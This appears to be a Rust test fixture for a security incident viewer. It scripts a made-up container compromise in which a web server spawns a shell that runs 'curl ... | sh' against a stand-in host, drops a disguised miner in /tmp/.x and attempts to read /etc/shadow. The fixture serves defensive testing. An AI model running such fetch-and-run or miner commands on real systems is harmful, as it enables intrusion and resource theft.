//! A made-up incident, small and always the same: a web server is tricked into running a shell, which fetches a miner.

use taffrail_tui::State;
use taffrail_tui::state::draft::{Draft, NewImage, Row, Rows, Who};
use taffrail_tui::state::recording::{
    About, Call as SystemCall, Dns, File, Finding, Flow, Gap, Image, ImageMore, Io, Lifecycle, Origin, Severity,
    Terminal, Time,
};

/// 2026-01-31T12:00:00Z.
pub const TRIGGER: Time = 1_769_860_800_000_000_000;

/// Milliseconds after the trigger.
pub fn at(millis: i64) -> Time {
    TRIGGER + millis * 1_000_000
}

pub fn about() -> About {
    About {
        container: "shop-web".to_owned(),
        containers: 1,
        image: Some("registry.example/shop/web:2.4.1".to_owned()),
        runtime: "docker".to_owned(),
        host: "edge-7".to_owned(),
        rule: "shell-from-web-server".to_owned(),
        severity: Severity::Critical,
        reason: "sh was run by httpd with its input on a pipe".to_owned(),
        trigger: TRIGGER,
        from: at(-58_000),
        to: at(10_000),
    }
}

/// One image of a story: its exec_id is `id`.
pub struct Program<'a> {
    pub id: u64,
    pub process: u64,
    pub parent: Option<u64>,
    pub pid: u32,
    pub origin: Origin,
    pub exe: &'a str,
    pub cmdline: &'a str,
    pub start: i64,
    pub end: Option<i64>,
    pub code: Option<i32>,
    pub signal: Option<i32>,
    pub inside: bool,
    pub entered: bool,
}

impl Default for Program<'_> {
    fn default() -> Self {
        Self {
            id: 0,
            process: 0,
            parent: None,
            pid: 1,
            origin: Origin::Exec,
            exe: "/bin/true",
            cmdline: "true",
            start: 0,
            end: None,
            code: None,
            signal: None,
            inside: true,
            entered: false,
        }
    }
}

pub fn program(draft: &mut Draft, program: &Program<'_>) {
    let comm = program.exe.rsplit('/').next().unwrap_or("");
    let image = Image {
        exec_id: program.id,
        process: 0,
        parent: None,
        before: None,
        pid: program.pid,
        ppid: None,
        uid: if program.inside { 33 } else { 0 },
        gid: if program.inside { 33 } else { 0 },
        comm: draft.sym(comm),
        exe: Some(draft.sym(program.exe)),
        cmdline: draft.sym(program.cmdline),
        cwd: draft.sym("/srv/www"),
        stdin: draft.sym("pipe"),
        stdout: draft.sym("socket"),
        origin: program.origin,
        start: at(program.start),
        end: program.end.map(at),
        exit_code: program.code,
        exit_signal: program.signal,
        args_cut: false,
        exe_deleted: false,
        inside: program.inside,
        more: ImageMore { entered: program.entered.then(|| draft.sym("cgroup")), ..ImageMore::default() },
    };
    draft.image(NewImage { image, process_id: program.process, parent_exec_id: program.parent });
}

pub fn who(id: u64, pid: u32, comm: &str) -> Who<'_> {
    Who { exec_id: Some(id), pid: Some(pid), tid: Some(pid), comm: Some(comm), uid: Some(33), container: None }
}

pub fn file(rows: &mut Rows, when: i64, who: Who<'_>, op: &str, path: &str, result: i32) {
    let file = File {
        op: rows.sym(op),
        path: rows.sym(path),
        new_path: None,
        source: rows.sym(if result == 0 { "kernel" } else { "user" }),
        rewritten_from: None,
        other_mounts: false,
        flags: rows.sym(if op == "create" { "O_WRONLY|O_CREAT|O_TRUNC" } else { "O_RDONLY|O_CLOEXEC" }),
        mode: (op != "open").then_some(0o755),
        given: None,
        result: Some(result),
        fd: (result == 0).then_some(5),
        inode: (result == 0).then_some(1_234_567),
        abi: Some(rows.sym("x86_64")),
    };
    rows.row(Some(at(when)), who, Row::File(file));
}

pub struct Call<'a> {
    pub op: &'a str,
    pub local: &'a str,
    pub remote: Option<&'a str>,
    pub end: Option<i64>,
    pub bytes: (u64, u64),
    pub result: i32,
}

pub fn flow(rows: &mut Rows, when: i64, who: Who<'_>, call: &Call<'_>) {
    let flow = Flow {
        op: rows.sym(call.op),
        protocol: rows.sym("tcp"),
        local: rows.sym(call.local),
        remote: call.remote.map(|remote| rows.sym(remote)),
        server_name: None,
        source: rows.sym("kernel"),
        start: at(when),
        end: call.end.map(at),
        sent: call.end.map(|_| call.bytes.0),
        received: call.end.map(|_| call.bytes.1),
        result: call.result,
        flow_id: Some(when.unsigned_abs()),
    };
    rows.row(Some(at(when)), who, Row::Flow(flow));
}

/// One event of each family that the incident does without, every text of it `text`.
pub fn others(rows: &mut Rows, when: i64, who: Who<'_>, text: &str) {
    let sym = rows.sym(text);
    let call = SystemCall {
        op: sym,
        syscall: sym,
        detail: sym,
        path: Some(sym),
        target: Some(sym),
        source: Some(sym),
        target_pid: Some(1),
        result: -1,
        euid: Some(0),
        capabilities: Some(1 << 21),
        abi: sym,
    };
    let message = Dns {
        op: sym,
        sent: true,
        name: sym,
        qtype: sym,
        answers: sym,
        rcode: Some(sym),
        id: Some(7),
        local: sym,
        remote: sym,
        flow_id: Some(6),
    };
    let terminal = Terminal {
        direction: sym,
        text: sym,
        data: None,
        session: Some(9),
        fd: Some(0),
        bytes: text.len() as u64,
        cut: true,
        unkept: 0,
    };
    let io = Io { path: sym, fd: Some(3), inode: Some(77), read: 12, written: 345, closed: true };
    let bodies = [Row::Io(io), Row::Dns(message), Row::Privilege(call), Row::Kernel(call), Row::Terminal(terminal)];
    for (place, body) in bodies.into_iter().enumerate() {
        rows.row(Some(at(when + place as i64)), who, body);
    }
}

/// A person at a terminal of the container types `typed`, and this comes back.
pub fn terminal(rows: &mut Rows, when: i64, typed: &str, printed: &str) {
    let stretches = [("typed", typed), ("printed", printed)];
    for (place, (direction, text)) in stretches.into_iter().enumerate() {
        let stretch = Terminal {
            direction: rows.sym(direction),
            text: rows.sym(text),
            data: rows.bytes(text.as_bytes()),
            session: Some(9),
            fd: Some(0),
            bytes: text.len() as u64,
            cut: false,
            unkept: 0,
        };
        rows.row(Some(at(when + 5 * place as i64)), who(8, 9109, "sh"), Row::Terminal(stretch));
    }
}

/// A program prints these bytes and nothing is typed.
pub fn terminal_bytes(rows: &mut Rows, when: i64, bytes: &[u8]) {
    let stretch = Terminal {
        direction: rows.sym("printed"),
        text: rows.sym(&String::from_utf8_lossy(bytes)),
        data: rows.bytes(bytes),
        session: Some(10),
        fd: Some(1),
        bytes: bytes.len() as u64,
        cut: false,
        unkept: 0,
    };
    rows.row(Some(at(when)), who(8, 9109, "sh"), Row::Terminal(stretch));
}

/// A program prints so many bytes in the session of [`terminal`], and none of them is kept.
pub fn not_kept(rows: &mut Rows, when: i64, who: Who<'_>, bytes: u64) {
    let stretch = Terminal {
        direction: rows.sym("printed"),
        text: rows.sym(""),
        data: None,
        session: Some(9),
        fd: Some(1),
        bytes,
        cut: true,
        unkept: bytes,
    };
    rows.row(Some(at(when)), who, Row::Terminal(stretch));
}

pub fn gap(rows: &mut Rows, from: i64, to: i64, lost: Option<u64>, own: bool) {
    let gap = Gap {
        class: rows.sym("bulk"),
        cause: rows.sym(if own { "refused" } else { "ring_full" }),
        lost,
        from: at(from),
        to: at(to),
        own,
    };
    rows.gap(gap);
}

/// Ancestors on the host, the server with its worker, the shell and what it ran.
fn cast(draft: &mut Draft) {
    let host = |id, parent, pid, exe, cmdline| Program {
        id,
        process: id,
        parent,
        pid,
        exe,
        cmdline,
        origin: Origin::Scan,
        start: -86_400_000,
        inside: false,
        ..Program::default()
    };
    program(draft, &host(1, None, 1, "/usr/lib/systemd/systemd", "/sbin/init"));
    program(draft, &host(2, Some(1), 2201, "/usr/bin/containerd-shim", "containerd-shim -namespace moby -id 4f1c"));
    let own = |id, parent, pid, exe, cmdline, start| Program {
        id,
        process: id,
        parent: Some(parent),
        pid,
        exe,
        cmdline,
        start,
        ..Program::default()
    };
    program(
        draft,
        &Program { origin: Origin::Scan, ..own(3, 2, 2230, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_600_000) },
    );
    program(
        draft,
        &Program { origin: Origin::Scan, ..own(4, 3, 2251, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_599_000) },
    );
    // A worker forks, and its child runs the shell.
    program(
        draft,
        &Program {
            process: 6,
            origin: Origin::Fork,
            end: Some(0),
            ..own(5, 4, 9107, "/usr/sbin/httpd", "httpd -D FOREGROUND", -4)
        },
    );
    let line = "sh -c 'curl -s http://203.0.113.9/x.sh | sh'";
    program(draft, &Program { end: Some(6_910), code: Some(0), ..own(6, 4, 9107, "/bin/sh", line, 0) });
    let curl = "curl -s http://203.0.113.9/x.sh";
    program(draft, &Program { end: Some(640), code: Some(0), ..own(7, 6, 9108, "/usr/bin/curl", curl, 12) });
    program(draft, &Program { end: Some(6_900), code: Some(0), ..own(8, 6, 9109, "/bin/sh", "sh", 15) });
    program(draft, &Program { end: Some(702), code: Some(0), ..own(9, 8, 9112, "/usr/bin/id", "id", 690) });
    let chmod = "chmod +x /tmp/.x/kworkerds";
    program(draft, &Program { end: Some(2_105), code: Some(0), ..own(10, 8, 9115, "/bin/chmod", chmod, 2_100) });
    let miner = "/tmp/.x/kworkerds --donate-level 1 -o pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x";
    program(
        draft,
        &Program { signal: Some(9), end: Some(9_400), ..own(11, 8, 9116, "/tmp/.x/kworkerds", miner, 2_130) },
    );
}

/// The quiet minute before, with a request every few seconds.
fn before(rows: &mut Rows) {
    let worker = || who(4, 2251, "httpd");
    let listen = Call { op: "listen", local: "0.0.0.0:80", remote: None, end: None, bytes: (0, 0), result: 0 };
    flow(rows, -3_599_500, who(3, 2230, "httpd"), &listen);
    for request in 0..9 {
        let when = -56_000 + request * 6_000;
        let remote = format!("198.51.100.{}:4{request}122", 7 + request);
        let call = Call {
            op: "accept",
            local: "172.17.0.4:80",
            remote: Some(&remote),
            end: Some(when + 80),
            bytes: (5_120 + 311 * request.unsigned_abs(), 412),
            result: 0,
        };
        flow(rows, when, worker(), &call);
        for (offset, path) in [(9, "/srv/www/index.php"), (11, "/srv/www/lib/db.php"), (30, "/srv/www/cart.php")] {
            file(rows, when + offset, worker(), "open", path, 0);
        }
    }
}

/// The attack and what follows.
fn after(rows: &mut Rows) {
    file(rows, -9, who(4, 2251, "httpd"), "open", "/srv/www/upload.php", 0);
    let finding = Finding {
        rule: rows.sym("shell-from-web-server"),
        severity: rows.sym("critical"),
        message: rows.sym("sh was run by httpd with its input on a pipe"),
        source: None,
        techniques: Some(rows.sym("T1059.004")),
    };
    rows.row(Some(at(0)), who(6, 9107, "sh"), Row::Finding(finding));
    for path in ["/etc/ld.so.cache", "/usr/lib/libcurl.so.4", "/etc/resolv.conf"] {
        file(rows, 20, who(7, 9108, "curl"), "open", path, 0);
    }
    let fetch = Call {
        op: "connect",
        local: "172.17.0.4:50112",
        remote: Some("203.0.113.9:80"),
        end: Some(631),
        bytes: (78, 1_904),
        result: 0,
    };
    flow(rows, 44, who(7, 9108, "curl"), &fetch);
    file(rows, 720, who(8, 9109, "sh"), "open", "/etc/shadow", -13);
    file(rows, 1_000, who(8, 9109, "sh"), "create", "/tmp/.x/kworkerds", 0);
    file(rows, 2_103, who(10, 9115, "chmod"), "chmod", "/tmp/.x/kworkerds", 0);
    file(rows, 2_140, who(11, 9116, "kworkerds"), "unlink", "/tmp/.x/kworkerds", 0);
    let refused = Call {
        op: "connect",
        local: "172.17.0.4:50114",
        remote: Some("[2001:db8::2]:3333"),
        end: Some(2_201),
        bytes: (0, 0),
        result: -111,
    };
    flow(rows, 2_200, who(11, 9116, "kworkerds"), &refused);
    let pool = Call {
        op: "connect",
        local: "172.17.0.4:50116",
        remote: Some("198.51.100.200:3333"),
        end: None,
        bytes: (0, 0),
        result: 0,
    };
    flow(rows, 2_260, who(11, 9116, "kworkerds"), &pool);
    let removed =
        Lifecycle { op: rows.sym("removed"), cgroup: rows.sym("/system.slice/docker-4f1c.scope"), detail: None };
    rows.row(Some(at(9_600)), Who::default(), Row::Lifecycle(removed));
}

/// The incident, complete.
pub fn incident() -> State {
    incident_with(|_| {})
}

/// The incident with more rows.
pub fn incident_with(more: impl FnOnce(&mut Rows)) -> State {
    let mut draft = Draft::new(about());
    cast(&mut draft);
    let mut rows = draft.link_images();
    before(&mut rows);
    after(&mut rows);
    more(&mut rows);
    State::new(rows.finish())
}

/// The incident with holes in it.
pub fn lossy() -> State {
    incident_with(|rows| {
        gap(rows, -30_000, -21_500, Some(1_204), true);
        gap(rows, -29_000, -28_900, Some(77), false);
        gap(rows, 3_000, 8_000, None, true);
    })
}

/// A bundle in whose window nothing happened.
pub fn empty() -> State {
    let about = About {
        rule: "manual".to_owned(),
        severity: Severity::Info,
        reason: "a person asked".to_owned(),
        image: None,
        ..about()
    };
    State::new(Draft::new(about).link_images().finish())
}
